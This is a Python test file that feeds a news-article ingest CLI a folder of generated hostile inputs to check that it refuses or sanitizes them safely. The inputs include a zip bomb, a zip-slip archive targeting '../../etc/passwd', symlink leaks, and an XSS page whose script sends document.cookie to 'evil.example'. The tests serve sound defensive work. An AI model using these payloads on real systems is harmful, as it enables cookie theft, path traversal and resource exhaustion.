"""Hostile files through the real CLI: `tracker ingest --json` on one folder of them.

tests/test_load_hostile.py checks each hostile input against tracker.load.reader; this runs a
whole folder of them, mixed with good articles, through `tracker ingest` in a subprocess,
as a user would: the process must finish (no crash, no traceback, bounded memory), store
exactly the good articles, and name every bad file in ``failed`` with a reason that says
what was wrong. Everything is generated in tmp_path.
"""

from __future__ import annotations

import io
import json
import os
import random
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from tracker.store import Store

REPO = Path(__file__).resolve().parents[1]
MB = 1024 * 1024

# Runs the CLI and records its peak memory (the parent process: it reads the files).
RUN_CLI = textwrap.dedent(
    """
    import resource, sys
    from pathlib import Path
    out = Path(sys.argv.pop(1))
    try:
        from tracker.cli import main
        main()
    finally:
        out.write_text(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024))
    """
)

GOOD = {
    "good_prisoners.txt": (
        "date: 2025-08-15\ntitle: Trump praises Lukashenko\n\n"
        "U.S. President Donald Trump praised Belarusian President Alexander Lukashenko "
        "for the release of 16 political prisoners. The United States and Belarus discussed "
        "the potential release of 1,300 more."
    ),
    "good_sanctions.md": (
        "---\ndate: 2024-03-02\nsource: Wire\n---\n# US widens sanctions\n\n"
        "The United States imposed new sanctions on Russia on Saturday. Moscow accused "
        "Washington of hostility and threatened to respond."
    ),
    "good_talks.json": json.dumps(
        {
            "title": "Talks in Geneva",
            "date": "2023-11-20",
            "text": "Chinese and American diplomats met in Geneva. China urged the United "
            "States to lift export controls, and Washington agreed to continue talks.",
        }
    ),
}
NO_COUNTRIES = (
    "date: 2025-01-10\n\nLocal bakery wins prize\n\n"
    "The bakery on Elm Street won the regional bread prize for the third year in a row. "
    "Its owner said the secret is patience and good flour."
)
RUSSIAN = (
    "date: 2025-08-15\n\nПрезидент США Дональд Трамп поблагодарил Александра Лукашенко за "
    "освобождение шестнадцати политических заключённых. Москва и Минск обсудили санкции."
)
BELARUSIAN = (
    "date: 2025-08-15\n\nПрэзідэнт ЗША Дональд Трамп падзякаваў Аляксандру Лукашэнку за "
    "вызваленне шаснаццаці палітвязняў. Мінск і Вашынгтон абмеркавалі санкцыі."
)
XSS_HTML = """<!doctype html><html><head><title>Kyiv and Warsaw sign pact</title>
<meta name="date" content="2024-06-01"><script>fetch('https://evil.example/'+document.cookie)
</script></head><body onload="alert('ONLOADX')"><iframe src="javascript:alert('IFRAMEX')">
</iframe><article><h1>Kyiv and Warsaw sign pact</h1>
<p>Ukraine and Poland signed a defence cooperation agreement on Saturday in Warsaw.
<img src=x onerror="alert('ONERRORX')"><a href="javascript:alert('HREFX')">more</a></p>
<p>Polish officials said Poland would support Ukraine with training.<script>alert('SCRIPTX')
</script></p><svg onload="alert('SVGX')"><script>alert('SVG2X')</script></svg></article>
<iframe srcdoc="<script>alert('SRCDOCX')</script>"></iframe></body></html>"""
XSS_MARKERS = ("alert", "javascript:", "onerror", "onload", "<script", "<iframe", "cookie", "X')")


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _write_bomb(path: Path, unpacked: int) -> None:
    """A zip of one member of ``unpacked`` bytes of zeros, streamed (never all in RAM)."""
    chunk = bytes(MB)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        info = zipfile.ZipInfo("zeros.txt")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            for _ in range(unpacked // MB):
                member.write(chunk)


def _write_repeated(path: Path, line: bytes, size: int) -> None:
    """``size`` bytes of ``line`` repeated, written in 1 MB blocks."""
    block = line * (MB // len(line))
    with path.open("wb") as handle:
        written = 0
        while written < size:
            part = block[: size - written]
            handle.write(part)
            written += len(part)


def make_hostile_folder(folder: Path) -> dict[str, str]:
    """Write the hostile files; returns {file name: substring its failure reason must have}."""
    rng = random.Random(20250815)
    body = GOOD["good_prisoners.txt"].split("\n\n", 1)[1]
    expected: dict[str, str] = {}

    def put(name: str, data: bytes, reason: str) -> None:
        (folder / name).write_bytes(data)
        expected[name] = reason

    put("binary.txt", rng.randbytes(64 * 1024), "binary data")
    put("nul_bytes.txt", f"date: 2025-08-15\n\n{body}".replace(" ", " \x00", 3).encode(),
        "binary data")  # fmt: skip
    put("invalid_utf8.txt", rng.randbytes(8000).replace(b"\x00", b"\xff"), "not UTF-8")
    put("empty.txt", b"", "file is empty")
    _write_repeated(folder / "huge_100mb.txt", b"The envoy met the minister again. ", 100 * MB)
    expected["huge_100mb.txt"] = "over the 50 MB limit"
    put("one_line_5mb.txt", b"date: 2025-08-15\n\n" + b"Belarus word " * (5 * MB // 13),
        "over the 300,000 limit")  # fmt: skip
    put("deep.json", b'{"text": "x", "meta": ' + b"[" * 200_000 + b"]" * 200_000 + b"}",
        "nested more than 50 levels")  # fmt: skip
    wide_header = ",".join(f"col{i}" for i in range(100_000))
    put("wide.csv", f"{wide_header}\n{',' * 99_999}\n".encode(), "no text column")
    put("big_field.csv", b'title,date,text\nBig,2025-08-15,"' + b"Belarus " * (10 * MB // 8)
        + b'"\n', "limit per field")  # fmt: skip
    _write_bomb(folder / "bomb.zip", 256 * MB)
    expected["bomb.zip"] = "zip unpacks to more than"
    put("slip.zip", _zip({"../../etc/passwd": b"root:x:0:0", "/abs/path.txt": body.encode()}),
        "unsafe member name")  # fmt: skip
    put("script_only.html", b"<html><body><script>alert(1)</script><iframe src='javascript:"
        b"alert(2)'></iframe><img src=x onerror=alert(3)></body></html>", "no text")  # fmt: skip
    put("year_1.txt", f"date: 0001-01-01\n\n{body}".encode(), "outside 1900..today")
    put("year_9999.txt", f"date: 9999-12-31\n\n{body}".encode(), "outside 1900..today")
    put("russian.txt", RUSSIAN.encode(), "Russian/Belarusian")
    put("belarusian.txt", BELARUSIAN.encode("cp1251"), "Russian/Belarusian")
    return expected


def write_readable(folder: Path) -> dict[str, str]:
    """Files that must be stored: {file name: a phrase of its stored text}."""
    for name, text in GOOD.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "no_countries.txt").write_text(NO_COUNTRIES, encoding="utf-8")
    # hostile-looking but readable: markup is stripped, a BOM-less UTF-16 file is decoded
    (folder / "xss.html").write_text(XSS_HTML, encoding="utf-8")
    utf16 = "date: 2022-02-24\n\nRussia attacked Ukraine, and Ukraine asked NATO for help."
    (folder / "utf16_no_bom.txt").write_bytes(utf16.encode("utf-16-le"))
    return {
        "good_prisoners.txt": "release of 16 political prisoners",
        "good_sanctions.md": "imposed new sanctions on Russia",
        "good_talks.json": "diplomats met in Geneva",
        "no_countries.txt": "regional bread prize",
        "xss.html": "defence cooperation agreement",
        "utf16_no_bom.txt": "Russia attacked Ukraine",
    }


def run_ingest(
    tmp_path: Path, *args: str, timeout: float = 120
) -> tuple[subprocess.CompletedProcess, int]:
    rss_file = tmp_path / "maxrss"
    env = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]),
    }
    out = subprocess.run(
        [sys.executable, "-c", RUN_CLI, str(rss_file), "ingest", *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )
    return out, int(rss_file.read_text()) if rss_file.exists() else -1


@pytest.mark.slow
def test_hostile_folder_through_the_cli(tmp_path):
    folder = tmp_path / "batch"
    folder.mkdir()
    expected_failures = make_hostile_folder(folder)
    readable = write_readable(folder)
    db = tmp_path / "tracker.duckdb"
    before = set(tmp_path.rglob("*"))

    out, peak_rss = run_ingest(tmp_path, str(folder), "--db", str(db), "--json")

    assert "Traceback" not in out.stderr, out.stderr
    assert out.returncode == 1, (out.returncode, out.stdout[-2000:], out.stderr[-2000:])
    report = json.loads(out.stdout)
    assert report["added"] == len(readable), report
    assert report["duplicates"] == 0

    # every bad file is named in "failed", with the reason that fits it
    failed: dict[str, list[str]] = {}
    for entry in report["failed"]:
        relative = Path(entry["file"]).relative_to(folder).as_posix()
        failed.setdefault(relative.split("/", 1)[0].split("#")[0], []).append(entry["error"])
    assert set(failed) == set(expected_failures), failed
    for name, reason in expected_failures.items():
        assert any(reason in error for error in failed[name]), (name, failed[name])
    for errors in failed.values():  # a reason is a sentence for people, not a repr
        assert all(10 < len(e) < 400 and "Traceback" not in e for e in errors), errors
    slip = {
        e["file"].split("slip.zip/", 1)[1] for e in report["failed"] if "slip.zip/" in e["file"]
    }
    assert slip >= {"../../etc/passwd", "/abs/path.txt"}

    # exactly the readable files are stored, with their text and nothing of the markup
    with Store(db, read_only=True) as store:
        con = store.con
        rows = con.execute("SELECT id, origin, title, text FROM articles").fetchall()
        pairs = dict(
            con.execute(
                "SELECT split_part(a.origin, '#', 1), count(DISTINCT d.pair_a || '-' || d.pair_b) "
                "FROM articles a "
                "LEFT JOIN dyad_sentences d ON d.article_id = a.id GROUP BY a.origin"
            ).fetchall()
        )
    assert sorted(r[0] for r in rows) == sorted(report["article_ids"])
    stored = {Path(r[1]).name.split("#")[0]: r for r in rows}
    assert set(stored) == set(readable)
    for name, phrase in readable.items():
        assert phrase in stored[name][3], (name, stored[name][3][:200])
    xss = stored["xss.html"]
    for marker in XSS_MARKERS:
        assert marker not in xss[2] and marker not in xss[3], marker
    assert "\ufffd" not in stored["utf16_no_bom.txt"][3]
    pairs = {Path(origin).name: n for origin, n in pairs.items()}
    assert pairs["no_countries.txt"] == 0  # documented: stored, with no pairs
    for name in ("good_prisoners.txt", "good_sanctions.md", "good_talks.json", "xss.html"):
        assert pairs[name] >= 1, (name, pairs)

    # nothing was extracted or written outside the database (zip members are never unpacked)
    created = {p for p in set(tmp_path.rglob("*")) - before if not p.name.startswith("maxrss")}
    assert {p.name for p in created} <= {db.name, db.name + ".wal"}, created
    # the 100 MB file is refused by size; reading it whole would cost >= 100 MB of RSS
    assert 0 < peak_rss < 1024 * MB, peak_rss


@pytest.mark.slow
def test_oversized_file_is_refused_without_reading_it(tmp_path):
    """A file over MAX_FILE_BYTES must be refused from its size, not read into memory."""
    from tracker.load.reader import MAX_FILE_BYTES

    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD["good_prisoners.txt"])
    db = tmp_path / "tracker.duckdb"
    _, baseline = run_ingest(tmp_path, str(folder), "--db", str(db), "--json")
    big = folder / "huge.txt"
    _write_repeated(big, b"The envoy met the minister again. ", MAX_FILE_BYTES * 3)
    out, peak = run_ingest(tmp_path, str(folder), "--db", str(db), "--json")
    report = json.loads(out.stdout)
    assert [e["file"] for e in report["failed"]] == [str(big)]
    assert "over the 50 MB limit" in report["failed"][0]["error"]
    growth = peak - baseline
    assert growth < MAX_FILE_BYTES // 2, f"peak RSS grew by {growth / MB:.0f} MB"


def test_lone_surrogate_and_stray_byte_files_land_with_the_others(tmp_path):
    """Issue 16 items 1 and 16 through the CLI: a JSON record with a lone surrogate escape
    crashed ingest (traceback, no file name, most of the batch lost); a short UTF-8 file
    with one stray byte was garbled as a legacy code page, its warning never shown."""
    folder = tmp_path / "batch"
    folder.mkdir()
    for name, text in GOOD.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "s.json").write_text(
        '{"date":"2025-08-14","text":"The United States praised Belarus. \\udfff"}'
    )
    stray = "date: 2025-08-15\n\nThe United States praised Belarus — a café deal. " * 3
    (folder / "stray.txt").write_bytes(stray.encode() + b"\xff more text.")
    db = tmp_path / "tracker.duckdb"
    out, _ = run_ingest(tmp_path, str(folder), "--db", str(db), "--json")
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr[-2000:]
    report = json.loads(out.stdout)
    assert report["added"] == len(GOOD) + 2 and report["failed"] == []
    warned = {Path(w["file"]).name: w["warning"] for w in report["warnings"]}
    assert "lone surrogate" in warned["s.json#1"]
    assert "1 invalid UTF-8 byte(s) replaced" in warned["stray.txt"]
    with Store(db, read_only=True) as store:
        texts = dict(store.con.execute("SELECT origin, text FROM articles").fetchall())
    assert "café" in texts[str(folder / "stray.txt")]
    assert texts[str(folder / "s.json#1")].endswith("Belarus. \ufffd")
    # the same file scores without storing (`tracker score` crashed too)
    scored = subprocess.run(
        [sys.executable, "-m", "tracker", "score", str(folder / "s.json"), "--json"],
        env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert scored.returncode == 0, scored.stderr[-2000:]
    assert json.loads(scored.stdout)["pairs"][0]["pair"] == ["BLR", "USA"]


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "tracker", *args],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def test_symlinks_out_of_the_folder_are_not_followed_unless_asked(tmp_path):
    """Issue 16 item 8: a link in an ingested folder to a 0600 file elsewhere made that file
    an article (its first line the title). Now it is reported, not read; --follow-links
    reads it."""
    secret_dir = tmp_path / "private"
    secret_dir.mkdir()
    secret = secret_dir / "secret.txt"
    secret.write_text("SECRET TOKEN hunter2\n\nThe United States praised Belarus on 2025-08-15.")
    secret.chmod(0o600)
    (secret_dir / "more.txt").write_text(GOOD["good_prisoners.txt"].replace("16", "17"))
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD["good_prisoners.txt"])
    (folder / "inner_link.txt").symlink_to(folder / "good.txt")  # inside: fine
    (folder / "leak.txt").symlink_to(secret)
    (folder / "linked_dir").symlink_to(secret_dir, target_is_directory=True)
    db = tmp_path / "t.duckdb"

    out = _cli(tmp_path, "ingest", str(folder), "--db", str(db), "--json", "--date", "2025-08-15")
    report = json.loads(out.stdout)
    assert out.returncode == 1 and report["added"] == 1 and report["duplicates"] == 1
    (failure,) = report["failed"]
    assert failure["file"] == str(folder / "leak.txt")
    assert "symbolic link" in failure["error"] and "--follow-links" in failure["error"]
    with Store(db, read_only=True) as store:
        texts = " ".join(
            r[0] for r in store.con.execute("SELECT title || text FROM articles").fetchall()
        )
    assert "SECRET" not in texts and "17 political" not in texts

    asked = _cli(tmp_path, "ingest", str(folder), "--db", str(db), "--json", "--follow-links")
    report = json.loads(asked.stdout)
    assert asked.returncode == 0, asked.stderr
    assert report["added"] == 2  # the linked file and the linked folder's other file
    # a glob is held to the same rule as a folder
    globbed = _cli(
        tmp_path, "ingest", str(folder / "*.txt"), "--db", str(tmp_path / "g.duckdb"), "--json"
    )
    assert [f["file"] for f in json.loads(globbed.stdout)["failed"]] == [str(folder / "leak.txt")]


WRITER = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    path, started, stop = map(Path, sys.argv[1:4])
    with path.open("w") as handle:
        handle.write("date: 2025-08-15\\n\\nThe United States praised Belarus. ")
        handle.flush()
        started.write_text("1")
        n = 0
        while not stop.exists() and n < 60_000:  # a slow copy: one sentence every 10 ms
            handle.write(f"Sentence {n} of a long report on Minsk and Washington. ")
            handle.flush()
            n += 1
            time.sleep(0.01)
        handle.write("THE END.")
    """
)


def test_a_file_being_written_is_refused_then_stored_whole_once(tmp_path):
    """Issue 16 item 7: a file being written was stored half, then whole as a second
    article. Now a file that changes while it is read is refused; once complete it lands
    once, whole."""
    folder = tmp_path / "batch"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD["good_prisoners.txt"])
    growing, started, stop = folder / "growing.txt", tmp_path / "started", tmp_path / "stop"
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(growing), str(started), str(stop)])
    try:
        while not started.exists():  # an event, not a sleep: the writer has begun
            assert writer.poll() is None
            time.sleep(0.01)
        db = tmp_path / "t.duckdb"
        out = _cli(tmp_path, "ingest", str(folder), "--db", str(db), "--json")
        assert writer.poll() is None, "the writer finished before ingest read the file"
    finally:
        stop.write_text("1")
        writer.wait(60)
    report = json.loads(out.stdout)
    assert report["added"] == 1, report
    (failure,) = report["failed"]
    assert failure["file"] == str(growing) and "still being written" in failure["error"]
    again = json.loads(_cli(tmp_path, "ingest", str(folder), "--db", str(db), "--json").stdout)
    assert (again["added"], again["duplicates"], again["failed"]) == (1, 1, [])
    with Store(db, read_only=True) as store:
        texts = [r[0] for r in store.con.execute("SELECT text FROM articles").fetchall()]
    grown = [t for t in texts if "Sentence 0" in t]
    assert len(grown) == 1 and grown[0].endswith("THE END.")
